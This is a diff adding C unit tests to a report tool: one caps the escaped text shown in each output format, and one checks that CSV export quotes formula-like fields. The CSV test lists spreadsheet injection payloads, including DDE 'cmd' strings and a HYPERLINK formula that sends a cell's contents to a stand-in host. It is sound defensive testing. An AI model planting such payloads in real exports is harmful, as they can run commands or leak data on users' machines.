@@ -483,8 +483,97 @@ static void test_bidi_controls(void **st) {
   assert_false(ec_cp_unsafe('\t', 1) || ec_cp_unsafe('\n', 1) || ec_cp_unsafe(0xFFFD, 3) || ec_cp_unsafe(0x200F, 3));
 }
 
+/* Every escaper of shown text cuts it at EC_SHOWN_MAX_BYTES, on a character
+ * boundary, with a note of its whole size; CSV (data) keeps it whole. A
+ * 150 MB name made a page over 1 GiB and cmark aborted. The page's bound
+ * (checked before cmark renders) is at least what cmark renders. */
+static void test_shown_cap(void **st) {
+  (void)st;
+  size_t n = 3 * EC_SHOWN_MAX_BYTES + 1;
+  char *s = ec_malloc(n + 1);
+  for (size_t i = 0; i + 1 < n; i += 2) memcpy(s + i, "\xC3\xA9", 2); /* é */
+  s[n - 1] = '<';
+  s[n] = '\0';
+  void (*esc[])(ec_buf *, const char *, size_t) = {ec_buf_html, ec_buf_html_ident, ec_buf_json, ec_buf_text, ec_buf_dot};
+  char note[64];
+  snprintf(note, sizeof note, " \xE2\x80\xA6 [%zu bytes in all]", n);
+  for (size_t k = 0; k < sizeof esc / sizeof esc[0]; k++) {
+    ec_buf b = {0};
+    esc[k](&b, s, n);
+    assert_true(b.len < 2 * EC_SHOWN_MAX_BYTES);
+    assert_true(ec_utf8_valid(b.data, b.len));
+    assert_non_null(strstr(b.data, note));
+    /* the '<' at the end is past the cut */
+    assert_null(strstr(b.data, "&lt;"));
+    assert_null(strstr(b.data, "\\u003c"));
+    if (k != 1) assert_null(strchr(b.data, '<')); /* html_ident adds its own tags */
+    ec_buf_free(&b);
+  }
+  ec_buf b = {0};
+  ec_md_escape(&b, s, n, 0);
+  assert_true(b.len < 2 * EC_SHOWN_MAX_BYTES && strstr(b.data, note));
+  b.len = 0;
+  ec_buf_csv(&b, s, n);
+  assert_int_equal(b.len, n);
+  ec_buf_free(&b);
+  assert_int_equal(ec_shown_len(s, 100), 100);
+  assert_true(ec_shown_len(s, n) <= EC_SHOWN_MAX_BYTES && ec_shown_len(s, n) % 2 == 0);
+  free(s);
+  /* the bound ec_report_html checks covers what cmark renders */
+  ec_engine *e;
+  ec_load_opts lo = {0};
+  assert_int_equal(ec_load_engine("examples/resnet-fp16-a100", &lo, &e), 0);
+  ec_report_opts o = {0};
+  o.want_html = 1;
+  ec_report r;
+  ec_diags d = {0};
+  assert_int_equal(ec_report_build(&e, 1, &o, &r, &d), 0);
+  ec_buf h = {0};
+  assert_int_equal(ec_report_html(&r, &h), 0);
+  char *part = cmark_render_html(r.parts[0].doc.root, CMARK_OPT_DEFAULT);
+  assert_true(ec_report_html_bound(&r) >= strlen(part));
+  assert_true(ec_report_html_bound(&r) < EC_PAGE_MAX_BYTES);
+  free(part);
+  ec_buf_free(&h);
+  ec_report_free(&r);
+  ec_diags_free(&d);
+  ec_engine_free(e);
+}
+
+/* CSV injection (OWASP): a field that starts with = + - @, a tab or a CR is
+ * quoted with a leading apostrophe unless it is one plain number as a whole
+ * (before: "-1+1+cmd|..." passed because '-' and a digit looked like a
+ * number, and a tab or CR first was never guarded). */
+static void test_csv_formulas(void **st) {
+  (void)st;
+  static const char *const cases[][2] = {
+      {"-1+1+cmd|' /C calc'!A0", "\"'-1+1+cmd|' /C calc'!A0\""},
+      {"=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\""},
+      {"@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\xEF\xBF\xBD=1\""}, /* a CR shows as U+FFFD, as everywhere */
+      {"+1", "\"'+1\""},
+      {"-", "\"'-\""},
+      {"-3.5", "-3.5"},
+      {"-3", "-3"},
+      {"-.5e-3", "-.5e-3"},
+      {"-3.5x", "\"'-3.5x\""},
+      {"-1e", "\"'-1e\""},
+      {"conv1", "conv1"},
+      {"a=1", "a=1"},
+  };
+  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+    ec_buf b = {0};
+    ec_buf_csv(&b, cases[i][0], strlen(cases[i][0]));
+    ec_buf_putc(&b, '\0');
+    assert_string_equal(b.data, cases[i][1]);
+    ec_buf_free(&b);
+  }
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
+      cmocka_unit_test(test_csv_formulas), cmocka_unit_test(test_shown_cap),
       cmocka_unit_test(test_heading_slug), cmocka_unit_test(test_heading_ids), cmocka_unit_test(test_ident_break_rule),
       cmocka_unit_test(test_ident_html), cmocka_unit_test(test_toc), cmocka_unit_test(test_graph_wrap),
       cmocka_unit_test(test_graph_legend), cmocka_unit_test(test_graph_block), cmocka_unit_test(test_generated_provenance), cmocka_unit_test(test_bidi_controls),
